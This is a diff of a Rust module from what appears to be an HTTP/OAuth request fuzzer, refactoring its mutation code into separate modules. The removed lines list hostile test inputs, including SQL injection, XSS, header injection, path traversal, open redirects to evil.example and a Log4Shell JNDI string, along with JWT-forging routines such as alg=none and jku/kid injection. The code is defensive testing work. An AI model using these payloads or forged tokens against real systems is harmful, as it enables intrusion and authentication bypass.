@@ -1,122 +1,10 @@
 //! One mutation of a valid request, or several.
 
-use base64::Engine as _;
-use base64::engine::general_purpose::URL_SAFE_NO_PAD;
-use serde_json::{Map, Value, json};
-
 use super::chance::Chance;
+use super::forge::token;
+use super::hostile::{HEADERS, HOSTILE, KINDS, METHODS};
+use super::json;
 use super::valid::{Body, Valid};
-
-/// Values that have broken somebody's server.
-const HOSTILE: &[&str] = &[
-    "",
-    " ",
-    "\0",
-    "a\0b",
-    "\r\nX-Injected: 1",
-    "\r\n\r\n<html>",
-    "\nSet-Cookie: auth_session=injected",
-    "%0d%0aX-Injected:%201",
-    "\u{e9}\u{2028}\u{1f600}",
-    "\u{202e}\u{2066}gnirts",
-    "\u{feff}",
-    "\u{10ffff}",
-    "e\u{301}\u{301}\u{301}",
-    "'",
-    "' OR 1=1 --",
-    "\"",
-    "\\",
-    "\\u0000",
-    "<script>alert(1)</script>",
-    "../../../../etc/passwd",
-    "..\\..\\x",
-    "%00",
-    "%ff",
-    "%",
-    "%zz",
-    "-1",
-    "0",
-    "1",
-    "4294967296",
-    "2147483648",
-    "9223372036854775807",
-    "9223372036854775808",
-    "18446744073709551616",
-    "99999999999999999999999999999999999999",
-    "1e999",
-    "-1e999",
-    "0x10",
-    "NaN",
-    "null",
-    "true",
-    "[]",
-    "{}",
-    "{\"id_token\":{\"sub\":{\"value\":\"\\u0000\"}}}",
-    "{\"userinfo\":{\"email\":{\"values\":[1e308,-0.0,18446744073709551615]}}}",
-    "a.b.c",
-    "...",
-    "eyJhbGciOiJub25lIn0.e30.",
-    "http://evil.example/",
-    "//evil.example/",
-    "/\\evil.example/",
-    "javascript:alert(1)",
-    "data:text/html,x",
-    "http://localhost:3002/callback@evil.example/",
-    "http://127.0.0.1:99999/callback",
-    "http://[::1",
-    "openid openid openid",
-    "openid profile email phone address roles offline_access",
-    "none",
-    "login consent select_account",
-    "S256",
-    "plain",
-    "booking-app",
-    "booking-spa",
-    "00000000-0000-0000-0000-000000000000",
-    "{00000000-0000-0000-0000-000000000000}",
-    ";",
-    "&",
-    "=",
-    "#",
-    "?",
-    "+",
-    "${jndi:ldap://evil.example/x}",
-    "{{7*7}}",
-];
-
-const METHODS: &[&str] = &[
-    "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "X",
-];
-const KINDS: &[&str] = &[
-    "application/json",
-    "application/x-www-form-urlencoded",
-    "application/x-www-form-urlencoded; charset=utf-16",
-    "multipart/form-data; boundary=x",
-    "text/plain",
-    "*/*",
-    ";",
-];
-const HEADERS: &[&str] = &[
-    "cookie",
-    "authorization",
-    "accept",
-    "accept-language",
-    "accept-encoding",
-    "content-type",
-    "content-encoding",
-    "expect",
-    "forwarded",
-    "if-none-match",
-    "origin",
-    "range",
-    "referer",
-    "user-agent",
-    "x-forwarded-for",
-    "x-forwarded-host",
-    "x-http-method-override",
-    "x-request-id",
-    "dpop",
-];
 
 /// A mutated request, as bytes.
 pub struct Mutated {
@@ -198,7 +86,7 @@ fn parameters(valid: &mut Valid) -> &mut Vec<(String, String)> {
 
 fn parameter(valid: &mut Valid, chance: &mut Chance) {
     if let Body::Json(value) = &mut valid.body {
-        json_member(value, chance, 0);
+        json::member(value, chance, 0);
         return;
     }
     let all = parameters(valid);
@@ -238,58 +126,9 @@ fn parameter(valid: &mut Valid, chance: &mut Chance) {
     }
 }
 
-fn hostile(chance: &mut Chance) -> String {
+/// A hostile value.
+pub fn hostile(chance: &mut Chance) -> String {
     (*chance.pick(HOSTILE)).to_owned()
-}
-
-fn json_member(value: &mut Value, chance: &mut Chance, depth: usize) {
-    let deeper = depth < 4 && !chance.once_in(3);
-    match value {
-        Value::Object(members) if deeper && !members.is_empty() => {
-            let at = chance.below(members.len());
-            let name = members.keys().nth(at).cloned().unwrap();
-            match chance.below(8) {
-                0 => drop(members.remove(&name)),
-                1 => {
-                    let taken = members.remove(&name).unwrap();
-                    members.insert(hostile(chance), taken);
-                }
-                _ => json_member(members.get_mut(&name).unwrap(), chance, depth + 1),
-            }
-        }
-        Value::Array(items) if deeper && !items.is_empty() => {
-            let at = chance.below(items.len());
-            match chance.below(6) {
-                0 => items.clear(),
-                1 => *items = vec![items[at].clone(); 1 + chance.below(200)],
-                _ => json_member(&mut items[at], chance, depth + 1),
-            }
-        }
-        _ => {
-            let replaced = json_value(value, chance);
-            *value = replaced;
-        }
-    }
-}
-
-fn json_value(was: &Value, chance: &mut Chance) -> Value {
-    match chance.below(12) {
-        0 => Value::Null,
-        1 => json!(true),
-        2 => json!(-1),
-        3 => json!(u64::MAX),
-        4 => json!(1e308),
-        5 => json!([]),
-        6 => json!({}),
-        7 => json!({ hostile(chance): was }),
-        8 => json!([was, was]),
-        9 => (0..chance.below(200)).fold(was.clone(), |inner, _| json!([inner])),
-        _ => json!(format!(
-            "{}{}",
-            was.as_str().unwrap_or_default(),
-            hostile(chance)
-        )),
-    }
 }
 
 fn header(valid: &mut Valid, chance: &mut Chance) {
@@ -336,93 +175,6 @@ fn line(valid: &mut Valid, chance: &mut Chance) {
             form.extend(query);
         }
     }
-}
-
-/// Alters a signed token, wherever the request has one.
-fn token(valid: &mut Valid, chance: &mut Chance) -> bool {
-    let form = match &mut valid.body {
-        Body::Form(form) => form.as_mut_slice(),
-        _ => &mut [],
-    };
-    let places = valid
-        .headers
-        .iter_mut()
-        .chain(valid.query.iter_mut())
-        .chain(form);
-    let mut found: Vec<&mut String> = places
-        .map(|(_, value)| value)
-        .filter(|value| value.matches('.').count() == 2 && value.contains("eyJ"))
-        .collect();
-    if found.is_empty() {
-        return false;
-    }
-    let at = chance.below(found.len());
-    let place = &mut *found[at];
-    let (before, jwt) = place.split_at(place.find("eyJ").unwrap());
-    let altered = forge(jwt, chance);
-    let changed = altered != jwt;
-    *place = format!("{before}{altered}");
-    changed
-}
-
-fn forge(jwt: &str, chance: &mut Chance) -> String {
-    let parts: Vec<&str> = jwt.split('.').collect();
-    let [head, claims, signature] = parts.as_slice() else {
-        return "..".to_owned();
-    };
-    let read = |part: &str| -> Map<String, Value> {
-        let bytes = URL_SAFE_NO_PAD.decode(part).unwrap_or_default();
-        serde_json::from_slice(&bytes).unwrap_or_default()
-    };
-    let write = |members: &Map<String, Value>| {
-        URL_SAFE_NO_PAD.encode(Value::Object(members.clone()).to_string())
-    };
-    let (mut header, mut payload) = (read(head), read(claims));
-    match chance.below(9) {
-        0 => {
-            header.insert(
-                "alg".into(),
-                json!(chance.pick(&["none", "HS256", "ES256", "RS512", ""])),
-            );
-            return format!("{}.{claims}.{signature}", write(&header));
-        }
-        1 => {
-            header.insert("alg".into(), json!("none"));
-            return format!("{}.{claims}.", write(&header));
-        }
-        2 => {
-            let name = *chance.pick(&["kid", "typ", "crit", "jku", "jwk", "x5c", "cty", "zip"]);
-            let value = json_value(&json!(hostile(chance)), chance);
-            header.insert(name.into(), value);
-            return format!("{}.{claims}.{signature}", write(&header));
-        }
-        3 | 4 => {
-            let names = [
-                "exp",
-                "iat",
-                "nbf",
-                "sub",
-                "aud",
-                "iss",
-                "jti",
-                "scope",
-                "client_id",
-                "sid",
-            ];
-            let name = *chance.pick(&names);
-            let value = json_value(&json!(i64::MAX), chance);
-            payload.insert(name.into(), value);
-            return format!("{head}.{}.{signature}", write(&payload));
-        }
-        5 => return format!("{head}.{claims}.{head}"),
-        6 => return format!("{claims}.{head}.{signature}"),
-        7 => return format!("{jwt}.{signature}"),
-        _ => {}
-    }
-    let mut bytes = jwt.as_bytes().to_vec();
-    let at = chance.below(bytes.len());
-    bytes[at] = *chance.pick(b"AbZ09-_.=+/");
-    String::from_utf8(bytes).unwrap()
 }
 
 fn flip(bytes: &mut [u8], chance: &mut Chance) {
